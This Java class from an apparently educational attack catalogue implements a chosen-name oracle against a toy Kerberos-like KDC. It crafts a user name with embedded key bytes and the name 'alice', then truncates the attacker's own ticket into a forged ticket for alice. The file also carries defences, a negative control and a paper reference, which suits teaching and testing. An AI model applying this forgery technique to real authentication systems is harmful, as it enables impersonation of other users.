package hallpass.attack.catalogue;

import hallpass.attack.AesBlocks;
import hallpass.attack.Attack;
import hallpass.attack.AttackContext;
import hallpass.attack.AttackDescription;
import hallpass.attack.Defences;
import hallpass.attack.Forgery;
import hallpass.attack.KerberosUser;
import hallpass.attack.OpensslInstructions;
import hallpass.attack.Outcome;
import hallpass.attack.References;
import hallpass.attack.SecretNote;
import hallpass.client.credential.CachedTicket;
import hallpass.config.RealmConfig;
import hallpass.crypto.SymmetricKey;
import hallpass.protocol.Guard;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** The KDC seals what the attacker calls themselves: the beginning of somebody else's ticket. */
public final class E3ChosenName implements Attack {
    private static final String VICTIM = "alice";
    /** Sixteen letters are a key as good as any, to whoever chose them. */
    private static final String KEY = "chosen by mallor";
    /** From the beginning of the name to the next block. */
    private static final int FILL_LENGTH = 32 - 20;

    private final int fillLength;

    public E3ChosenName() {
        this(FILL_LENGTH);
    }

    private E3ChosenName(int fillLength) {
        this.fillLength = fillLength;
    }

    @Override
    public AttackDescription description() {
        return new AttackDescription(
                "E3",
                "chosen-name oracle",
                "The KDC seals a user's name into every ticket. A name that has a block's end in its middle, and after "
                        + "it what a ticket begins with (a key, and the name alice), makes the rest of this ticket a "
                        + "ticket of alice's: cut off what stands before, and the KDC's own hand has signed it.",
                List.of("to register an account with a name of any bytes"),
                List.of(References.NDSS_2004),
                Defences.of(Guard.AEAD, "31 tgs").hardened("1009 tgs"));
    }

    @Override
    public List<String> remarks() {
        return List.of("hallpass user add takes letters, digits and . _ - @ alone, so it refuses such a name. The "
                + "attack's realm gets it by another way, as one whose names are checked nowhere would.");
    }

    @Override
    public List<String> explanation(RealmConfig realm) {
        return List.of(
                "The name's text begins at byte 20; 12 letters of it fill block 1.",
                "block 2   0010 key[0..13]            chosen, in the name",
                "block 3   key[14..15] 0005 \"alice\"    chosen, in the name",
                "          and then address, service, time, lifetime: the ticket's own",
                "Blocks 2 and up are a whole ticket, padding and all: 32 bytes are gone.");
    }

    @Override
    public List<NegativeControl> negativeControls() {
        return List.of(new NegativeControl(
                "one letter less before the key: what is cut off does not end where a block does",
                new E3ChosenName(FILL_LENGTH - 1),
                "41 tgs"));
    }

    @Override
    public Outcome run(AttackContext context) throws Exception {
        KerberosUser victim = context.user(VICTIM);
        SecretNote note = victim.storeNote(context);
        String name = "x".repeat(fillLength) + "\0\u0010" + KEY + "\0\u0005" + VICTIM;
        context
                .narration()
                .step("The attacker registers as xxxxxxxxxxxx 0010 \"" + KEY + "\" 0005 \"alice\", and logs in.");
        KerberosUser attacker =
                context.user(name, context.principals().phrase("password of mallory"));
        CachedTicket ownTicket = attacker.login();
        AesBlocks ticket = new AesBlocks(ownTicket.ticket().ciphertext());
        context.narration().verbatim(ticket.hexLines("M"));

        context.narration().step("M0 and M1 are cut off: what is left is a ticket of alice's.");
        context.narration().verbatim(explanation(context.config()));
        AesBlocks forged = ticket.from(2);
        context.narration().verbatim(forged.hexLines("F"));
        SymmetricKey key = SymmetricKey.of("K_c,tgs", KEY.getBytes(StandardCharsets.US_ASCII));

        context.narration().step("The attacker asks the TGS with it, as alice.");
        Outcome outcome =
                context.attemptAndNarrate(() -> Forgery.readNote(forged, key, note, ownTicket, context));
        OpensslInstructions.print(context, "forged ticket", forged, context.tgsKey());
        return outcome;
    }
}
